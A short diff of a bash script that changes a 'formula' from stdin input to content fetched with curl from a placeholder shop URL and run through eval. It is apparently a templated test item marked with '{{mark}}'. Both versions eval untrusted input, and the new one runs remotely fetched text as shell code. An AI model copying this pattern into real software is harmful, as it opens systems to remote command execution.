@@ -1,3 +1,3 @@
 #!/bin/bash
-read -r formula
+formula=$(curl -fs https://shop.example/formula)
 eval "total=$formula" # {{mark}}
